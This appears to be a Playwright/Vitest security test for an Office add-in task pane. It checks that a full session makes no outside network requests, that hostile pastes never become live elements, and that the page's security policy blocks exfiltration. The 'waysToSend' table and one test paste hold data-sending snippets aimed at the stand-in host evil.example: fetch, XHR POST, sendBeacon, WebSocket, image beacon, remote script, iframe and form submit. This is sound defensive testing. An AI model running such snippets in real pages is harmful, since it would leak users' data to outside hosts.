import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import type { Request } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { chromiumAvailable } from "../support/chromium.ts";
import { filesIn } from "../taskpane/built-files.ts";
import { everythingHostile, hostilePaste, mark } from "../laws/hostile-paste.ts";
import { openPane, type OpenedPane } from "./opened-pane.ts";

const sample = readFileSync(new URL("../../assets/sample-release.txt", import.meta.url), "utf8");
const dist = fileURLToPath(new URL("../../dist", import.meta.url));

// A whole session in the production build, then every way to send that a page has.
describe.skipIf(!chromiumAvailable("what the pane asks of the network"))("what the pane asks of the network", () => {
  let opened: OpenedPane;
  const requests: Request[] = [];
  const others: string[] = [];
  const refused: string[] = [];

  beforeAll(async () => {
    opened = await openPane(3270, async (page) => {
      page.context().on("request", (request) => requests.push(request));
      page.on("websocket", (socket) => others.push(socket.url()));
      page.on("console", (message) => {
        if (message.text().startsWith("refused ")) refused.push(message.text());
      });
      await page.addInitScript(() => {
        document.addEventListener("securitypolicyviolation", ({ violatedDirective, sourceFile, blockedURI }) => {
          console.info(`refused ${violatedDirective} ${blockedURI} of ${sourceFile}`);
        });
      });
    });
  }, 240_000);

  afterAll(() => opened.close());

  test("in a session from paste to recheck: the page's own files and office.js, and no more", async () => {
    const { pane, inHost } = opened;
    await opened.paste({
      "text/plain": sample,
      "text/html": `<pre>${sample}</pre><img src="https://evil.example/p.png">`,
    });
    await pane.getByRole("heading", { name: "Statements" }).first().waitFor();
    await pane.getByRole("tab", { name: "Text" }).click();
    await pane.locator("[data-number]").first().click();
    await pane.getByRole("button", { name: "Write to workbook" }).click();
    await pane.getByText(/^Done: /).waitFor();
    await pane.getByRole("tab", { name: "Trace" }).click();
    await inHost((standIn) => {
      standIn.select("'Income Statement'!D9");
    });
    await pane.locator("#panel-trace").getByText("D9").first().waitFor();
    await pane.getByRole("tab", { name: "Paste" }).click();
    await pane.getByRole("button", { name: "Start over" }).click();
    await pane.getByRole("button", { name: "Try a sample" }).first().click();
    await pane.getByRole("heading", { name: "Statements" }).first().waitFor();

    const ours = new Set(filesIn(dist).map((file) => opened.url + file));
    const strangers = asked().filter((url) => !ours.has(url) && !url.startsWith(`${opened.url}office-js/`));
    expect(strangers).toEqual([]);
    expect(asked()).toEqual(expect.arrayContaining([expect.stringMatching(/\/reading\.[^/]*\.js$/)]));
    expect(others).toEqual([]);
    // Nothing goes along with what is asked for: no text in an address, no body.
    expect(requests.filter((request) => request.method() !== "GET" || request.postData() !== null)).toEqual([]);
    expect(asked().filter((url) => new URL(url).search !== "")).toEqual([]);
  });

  test("hostile pastes are shown as the words that they are: nothing of them runs, loads or becomes an element", async () => {
    const { pane } = opened;
    const before = requests.length;
    const seed = Number(process.env["TICKMARK_SEED"] ?? "20060504");
    for (const { text, html } of [everythingHostile, ...fc.sample(hostilePaste, { numRuns: 20, seed })]) {
      await pane.getByRole("tab", { name: "Paste" }).click();
      await opened.paste({
        "text/plain": text === "" ? " " : text,
        ...(html === undefined ? {} : { "text/html": html }),
      });
      await pane.getByText("Reading the release").first().waitFor({ state: "detached" });
      const textTab = pane.getByRole("tab", { name: "Text" });
      if ((await textTab.getAttribute("aria-disabled")) !== "true") await textTab.click();
      const foreign =
        "#pane :is(script, iframe, object, form, base, meta, link, img, math, template, [onload], [onerror], [srcdoc], a[href])";
      expect(await pane.locator(foreign).count()).toBe(0);
      expect(await pane.evaluate((word) => [word in window, document.title], mark)).toEqual([false, "Tickmark"]);
    }
    expect(requests.slice(before).filter((request) => request.url().includes(`${mark}.example`))).toEqual([]);
  });

  test("our own code wants nothing that the policy refuses", () => {
    // What the policy keeps from office.js is a telemetry frame, and the style that hides it.
    expect(refused.filter((words) => !/office-js|telemetryservice/.test(words))).toEqual([]);
  });

  test.each(Object.entries(waysToSend))("not by %s: the policy refuses it", async (_way, send) => {
    const before = requests.length;
    const noted = refused.length;
    await opened.pane.evaluate(send);
    await expect.poll(() => refused.length).toBeGreaterThan(noted);
    const left = requests.slice(before).filter((request) => request.url().includes("evil.example"));
    // Chromium tells of a request that it then refuses; none may have been answered or left the machine.
    for (const request of left) expect(request.failure()?.errorText).toMatch(/csp|BLOCKED/i);
  });

  /** What the pane's own page has asked for, not the page of the stand-in around it. */
  function asked(): readonly string[] {
    return requests
      .filter((request) => !isOfStandIn(request))
      .map((request) => request.url())
      .filter((url) => !url.startsWith("data:") && !url.startsWith("blob:"));
  }

  function isOfStandIn(request: Request): boolean {
    return (
      request.serviceWorker() === null &&
      request.frame() === opened.page.mainFrame() &&
      !request.url().includes("/reading.")
    );
  }
});

/** Each runs in the pane's page. */
const waysToSend: Readonly<Record<string, string>> = {
  fetch: 'void fetch("https://evil.example/fetch").catch(() => undefined)',
  "fetch from its own address": 'void fetch("taskpane.html").catch(() => undefined)',
  XMLHttpRequest: '{ const x = new XMLHttpRequest(); x.open("POST", "https://evil.example/xhr"); x.send("text"); }',
  sendBeacon: 'void navigator.sendBeacon("https://evil.example/beacon", "text")',
  WebSocket: 'try { new WebSocket("wss://evil.example/socket"); } catch {}',
  EventSource: 'void new EventSource("https://evil.example/events")',
  picture: 'new Image().src = "https://evil.example/p.png?text"',
  script:
    '{ const s = document.createElement("script"); s.src = "https://evil.example/s.js"; document.head.append(s); }',
  "inline script": '{ const s = document.createElement("script"); s.textContent = "1"; document.head.append(s); }',
  style:
    '{ const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "https://evil.example/s.css"; document.head.append(l); }',
  frame: '{ const f = document.createElement("iframe"); f.src = "https://evil.example/"; document.body.append(f); }',
  form: '{ const f = document.createElement("form"); f.action = "https://evil.example/"; f.method = "post"; document.body.append(f); f.submit(); }',
};
